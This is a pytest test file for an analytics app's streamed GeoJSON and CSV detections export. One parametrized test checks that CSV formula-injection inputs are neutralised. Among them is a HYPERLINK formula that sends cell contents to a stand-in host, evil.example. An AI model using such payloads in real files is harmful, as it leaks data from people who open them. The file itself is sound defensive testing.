"""The detections export: every detection of the matching frames, streamed as
GeoJSON or CSV in batches."""

from __future__ import annotations

import csv
import io
import json

import pytest

from analytics import export
from indexer.records import Waypoint
from tests.analytics.corpus import analytics, create_schema, index_video, person, street, vehicle

pytestmark = pytest.mark.django_db


@pytest.fixture
def corpus(db):
    create_schema()
    index_video(1, "street", street())
    index_video(2, "garage", analytics(vehicle(0, "truck", "black"), person(1)))  # no GPS


def download(client, suffix: str, **params):
    query = {key: json.dumps(value) if isinstance(value, dict) else value for key, value in params.items()}
    response = client.get(f"/api/v1/export/detections.{suffix}", query)
    assert response.status_code == 200, response.content
    assert response.streaming
    return response


def test_geojson_has_every_detection_of_the_matching_frames(analyst_client, corpus):
    response = download(analyst_client, "geojson", q="vehicle(color=black)")

    assert response["Content-Type"] == "application/geo+json"
    assert "scoop-detections.geojson" in response["Content-Disposition"]
    features = json.loads(b"".join(response.streaming_content))["features"]
    # street frames 0 and 1 (with the white SUV beside the black sedan), then the garage's frame 0.
    assert [(f["properties"]["video"], f["properties"]["frame"], f["properties"]["label"],
             f["properties"]["attrs"].get("color")) for f in features] == [
        (1, 0, "vehicle", "black"), (1, 1, "vehicle", "black"), (1, 1, "vehicle", "white"), (2, 0, "vehicle", "black")]
    first = features[0]
    assert first["geometry"] == {"type": "Point", "coordinates": [0.5, 0.5]}
    assert first["properties"] == {
        "video": 1, "video_name": "street", "frame": 0, "t": 0.0, "label": "vehicle", "track": "1",
        "confidence": 0.9, "box": [0.1, 0.2, 0.3, 0.4], "attrs": {"type": "sedan", "color": "black"}}
    assert features[3]["geometry"] is None  # the garage has no GPS


def test_csv_has_one_column_per_attribute(analyst_client, corpus):
    response = download(analyst_client, "csv", filters={"object:vehicle.type": ["sedan"]})

    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert list(rows[0]) == ["video", "video_name", "frame", "t", "label", "track", "confidence", "x1", "y1", "x2",
                             "y2", "lat", "lon", "attr.type", "attr.color", "attr.parked", "attr.review"]
    assert [(r["frame"], r["label"], r["attr.type"], r["attr.color"], r["attr.parked"]) for r in rows] == [
        ("0", "vehicle", "sedan", "black", ""), ("1", "vehicle", "sedan", "black", ""),
        ("1", "vehicle", "suv", "white", ""), ("50", "vehicle", "sedan", "white", "true")]
    assert (rows[3]["lat"], rows[3]["lon"], rows[3]["x2"]) == ("1.0", "2.5", "0.3")


def test_the_export_is_read_in_batches(analyst_client, corpus, monkeypatch):
    monkeypatch.setattr(export, "BATCH_SIZE", 2)

    chunks = list(download(analyst_client, "geojson").streaming_content)
    csv_chunks = list(download(analyst_client, "csv").streaming_content)

    # opening, 4 batches of at most 2 of the 8 detections, closing
    assert len(chunks) == 1 + 4 + 1
    assert len(json.loads(b"".join(chunks))["features"]) == 8
    assert len(csv_chunks) == 1 + 4 and b"".join(csv_chunks).count(b"\n") == 1 + 8


def test_nothing_matching_is_an_empty_collection(analyst_client, corpus):
    response = download(analyst_client, "geojson", q="NOT ()")

    assert json.loads(b"".join(response.streaming_content)) == {"type": "FeatureCollection", "features": []}


def test_a_bad_query_is_a_json_400_whatever_the_browser_accepts(analyst_client, corpus):
    response = analyst_client.get("/api/v1/export/detections.csv", {"q": "vehicle(colour=red)"},
                                  HTTP_ACCEPT="text/html")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "colour" in response.json()["detail"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd", "-2+3", "@SUM(A1)",
                                  "\tpadded", "\r=1"])
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(analyst_client, db, name):
    create_schema()
    index_video(3, name, analytics(vehicle(0, "sedan", "black"), gps=[Waypoint(0.0, 40.7, -74.0)]))

    rows = list(csv.DictReader(io.StringIO(b"".join(download(analyst_client, "csv").streaming_content).decode())))

    assert [(row["video_name"], row["lon"], row["lat"]) for row in rows] == [("'" + name, "-74.0", "40.7")]
    # the GeoJSON export is data, not a spreadsheet: the name stays as it is
    features = json.loads(b"".join(download(analyst_client, "geojson").streaming_content))["features"]
    assert features[0]["properties"]["video_name"] == name


@pytest.mark.parametrize(("value", "expected"), [("sedan", "sedan"), ("", ""), ("a=b", "a=b"), ("=1", "'=1"),
                                                 ("-", "'-"), ("'=1", "'=1")])
def test_spreadsheet_safe_prefixes_only_formula_starts(value, expected):
    assert export.spreadsheet_safe(value) == expected
